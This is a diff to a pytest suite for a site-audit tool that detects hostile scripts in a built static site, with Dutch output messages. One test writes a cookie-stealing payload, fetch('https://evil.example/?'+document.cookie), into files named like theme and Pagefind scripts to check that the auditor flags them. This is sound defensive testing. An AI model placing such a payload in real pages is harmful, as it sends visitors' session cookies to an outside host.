@@ -44,17 +44,13 @@ def site_copy(built_site: Path, tmp_path: Path) -> Path:
     return copy
 
 
-def test_the_real_site_passes(built_site: Path) -> None:
-    pages, findings = audit_site(built_site, SCRIPTS)
-    assert pages > 100
-    assert findings == []
-
-
-def test_the_command_passes_on_the_real_site(built_site: Path) -> None:
+def test_the_real_site_passes_the_command(built_site: Path) -> None:
+    """The audit of the real site, as CI runs it (one scan: the command prints what audit_site found)."""
     result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(built_site)],
                             capture_output=True, text=True, cwd=ROOT, timeout=120)
     assert result.returncode == 0, result.stdout + result.stderr
-    assert re.fullmatch(r"Thuisbasis-audit: \d+ pagina's gecontroleerd: geen problemen\.\n", result.stdout)
+    checked = re.fullmatch(r"Thuisbasis-audit: (\d+) pagina's gecontroleerd: geen problemen\.\n", result.stdout)
+    assert checked and int(checked.group(1)) > 100, result.stdout
 
 
 PLANTED = [
@@ -177,16 +173,20 @@ def test_a_hostile_file_fails_the_command(tmp_path: Path) -> None:
     assert result.stdout.startswith(f"{(site / 'logo.svg').as_posix()}:2:9: <script> in een SVG- of XML-bestand")
 
 
-@pytest.mark.parametrize("pattern", ["assets/javascripts/bundle.*.min.js", "assets/javascripts/workers/search.*.min.js",
-                                     "pagefind/pagefind.js", "pagefind/pagefind-worker.js"])
-def test_a_file_named_like_a_theme_or_pagefind_script_is_known_by_content(site_copy: Path, pattern: str) -> None:
-    script = next(iter(site_copy.glob(pattern)))
-    script.write_text("fetch('https://evil.example/?'+document.cookie)\n", encoding="utf-8")
+NAMED_LIKE_THEIRS = ["assets/javascripts/bundle.*.min.js", "assets/javascripts/workers/search.*.min.js",
+                     "pagefind/pagefind.js", "pagefind/pagefind-worker.js"]
+
+
+def test_a_file_named_like_a_theme_or_pagefind_script_is_known_by_content(site_copy: Path) -> None:
+    """Each of the four replaced in one copy of the real site, scanned once: each is reported on its own."""
+    replaced = [next(iter(site_copy.glob(pattern))) for pattern in NAMED_LIKE_THEIRS]
+    for script in replaced:
+        script.write_text("fetch('https://evil.example/?'+document.cookie)\n", encoding="utf-8")
     _, findings = audit_site(site_copy, SCRIPTS)
-    assert findings
     assert all("maar andere inhoud" in found.message for found in findings)
-    assert Finding(script, 1, 1, f"script heeft de naam van een bestand van {'Pagefind' if 'pagefind' in pattern else 'Material'}, "
-                   "maar andere inhoud") in findings
+    for pattern, script in zip(NAMED_LIKE_THEIRS, replaced, strict=True):
+        owner = "Pagefind" if "pagefind" in pattern else "Material"
+        assert Finding(script, 1, 1, f"script heeft de naam van een bestand van {owner}, maar andere inhoud") in findings
 
 
 def test_a_script_with_a_bundle_like_name_that_material_does_not_ship_is_reported(tmp_path: Path) -> None:
